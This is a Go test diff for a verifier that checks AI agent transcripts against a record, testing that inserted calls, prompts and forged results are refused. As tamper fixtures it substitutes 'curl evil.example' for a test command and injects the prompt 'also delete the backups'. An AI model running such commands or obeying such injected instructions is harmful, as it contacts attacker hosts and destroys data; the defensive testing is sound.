@@ -114,6 +114,17 @@ func TestEvidenceEveryEdit(t *testing.T) {
 			return out
 		}
 	}
+	// insert puts after line n copies of lines ns (1-based), each edited
+	// by the replacer's pairs.
+	insert := func(n int, r *strings.Replacer, ns ...int) func([]string) []string {
+		return func(l []string) []string {
+			var add []string
+			for _, k := range ns {
+				add = append(add, r.Replace(l[k-1]))
+			}
+			return append(l[:n:n], append(add, l[n:]...)...)
+		}
+	}
 	cases := []struct {
 		name string
 		edit func([]string) []string
@@ -136,9 +147,19 @@ func TestEvidenceEveryEdit(t *testing.T) {
 		{"reordered lines: two calls swapped", order(1, 4, 5, 2, 3, 6, 7, 8, 9, 10), "moved    call"},
 		{"reordered lines: a call moved into the first turn", order(1, 2, 3, 4, 5, 8, 9, 6, 7, 10), "moved    call Bash tu-lint"},
 		{"reordered lines: final messages swapped", order(1, 2, 3, 4, 5, 10, 7, 8, 9, 6), "final message"},
+		// What the record never saw (issue 32): each was exit 0.
+		{"inserted lines: a call the record never saw", insert(5, strings.NewReplacer("tu-test", "tu-evil", "go test", "curl evil.example", "m2", "m2b"), 4, 5),
+			"REFUSED EVIDENCE_UNRECORDED: the transcript holds 1 call(s) the record does not name (first tu-evil)"},
+		{"inserted line: a prompt", insert(5, strings.NewReplacer("and lint", "also delete the backups"), 7),
+			"REFUSED EVIDENCE_UNRECORDED: the transcript holds 1 prompt(s) the record does not have (first at line 6)"},
+		{"inserted line: a second result for a call, after the real one", insert(5, strings.NewReplacer(`"content":"PASS"`, `"content":"FAIL: 3 tests"`), 5),
+			"REFUSED EVIDENCE_UNRECORDED: the transcript holds a second input or result for 1 call(s) (first tu-test)"},
+		{"inserted prompt, and a call moved into the first turn", func(l []string) []string {
+			return insert(1, strings.NewReplacer("fix it", "first this"), 1)(order(1, 2, 3, 4, 5, 8, 9, 6, 7, 10)(l))
+		}, "moved    call Bash tu-lint"},
 	}
 	var table strings.Builder
-	table.WriteString("| transcript edit | exit | verdict line |\n|---|---|---|\n")
+	table.WriteString("| transcript edit | exit | code | verdict line |\n|---|---|---|---|\n")
 	for i, c := range cases {
 		l := c.edit(append([]string(nil), lines...))
 		f := writeTemp(t, dir, fmt.Sprintf("t%d.jsonl", i), []byte(strings.Join(l, "\n")+"\n"))
@@ -150,7 +171,59 @@ func TestEvidenceEveryEdit(t *testing.T) {
 		if code != wantCode || !strings.Contains(out, c.want) {
 			t.Errorf("%s: exit %d, want %d and %q in\n%s", c.name, code, wantCode, c.want, out)
 		}
-		fmt.Fprintf(&table, "| %s | %d | %s |\n", c.name, code, strings.SplitN(lastLine(out), ":", 2)[0])
+		refused := ""
+		if strings.HasPrefix(out, "REFUSED ") {
+			refused = strings.SplitN(strings.TrimPrefix(out, "REFUSED "), ":", 2)[0]
+		}
+		if (code == 1) != (refused != "") {
+			t.Errorf("%s: exit %d, and the first line is %q", c.name, code, strings.SplitN(out, "\n", 2)[0])
+		}
+		fmt.Fprintf(&table, "| %s | %d | %s | %s |\n", c.name, code, refused, strings.SplitN(lastLine(out), ":", 2)[0])
 	}
 	t.Logf("\n%s", table.String())
+}
+
+// TestEvidenceUnheld: a record without PostToolBatch steps (older Claude
+// Code, a record made from a transcript) holds no digest of the result
+// text the model read, so an edit of that text alone cannot be seen: the
+// evidence is refused EVIDENCE_UNHELD, edited or not, unless
+// --allow-unheld says the reader accepts that; then the edit passes, and
+// the summary says what was allowed.
+func TestEvidenceUnheld(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	orig := strings.Join(twoTurns(), "\n") + "\n"
+	events, _, err := transcript.Convert(strings.NewReader(orig), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var buf bytes.Buffer
+	if err := transcript.WriteJSONL(&buf, events); err != nil {
+		t.Fatal(err)
+	}
+	rec, err := reviewtest.Record(strings.Split(strings.TrimSpace(buf.String()), "\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	recFile := writeTemp(t, dir, "r.json", rec)
+	read := writeTemp(t, dir, "read.jsonl", []byte(strings.Replace(orig, `"content":"PASS"`, `"content":"PASS (edited)"`, 1)))
+	for _, f := range []string{writeTemp(t, dir, "t.jsonl", []byte(orig)), read} {
+		code, out := runVerify(t, recFile, "--evidence", f)
+		if code != 1 || !strings.HasPrefix(out, "REFUSED EVIDENCE_UNHELD: 3 call(s) whose result the model read has no digest in the record") ||
+			!strings.Contains(out, "EVIDENCE UNPROVEN") {
+			t.Errorf("%s: %d %s", f, code, out)
+		}
+		var v struct {
+			OK   bool
+			Code *string
+		}
+		var o, e bytes.Buffer
+		if st := run([]string{"--json", recFile, "--evidence", f}, &o, &e); st != 1 || json.Unmarshal(o.Bytes(), &v) != nil || v.OK || v.Code == nil || *v.Code != "EVIDENCE_UNHELD" {
+			t.Errorf("%s --json: %d %s %s", f, st, o.String(), e.String())
+		}
+	}
+	code, out := runVerify(t, recFile, "--evidence", read, "--allow-unheld")
+	if code != 0 || !strings.Contains(out, "calls whose result the model read has no digest in the record: 3 (allowed)") {
+		t.Errorf("--allow-unheld: %d %s", code, out)
+	}
 }
